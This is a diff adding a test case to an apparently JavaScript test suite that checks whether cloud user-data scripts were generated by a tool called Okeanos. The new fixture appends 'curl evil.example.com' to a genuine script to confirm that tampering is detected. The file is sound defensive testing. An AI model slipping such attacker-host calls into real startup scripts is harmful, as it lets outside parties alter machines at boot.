@@ -12,6 +12,13 @@ it.each([
     base64('#!/bin/bash\nexport PASSWORD=secret'),
     'a script that Okeanos did not make',
   ],
+  [
+    'that ours was added to',
+    base64(
+      `${Buffer.from(userDataFor([taint]), 'base64')}curl evil.example.com`,
+    ),
+    'a script that Okeanos did not make',
+  ],
 ])('tells %s', (_what, userData, told) => {
   expect(describeUserData(userData)).toBe(told);
 });
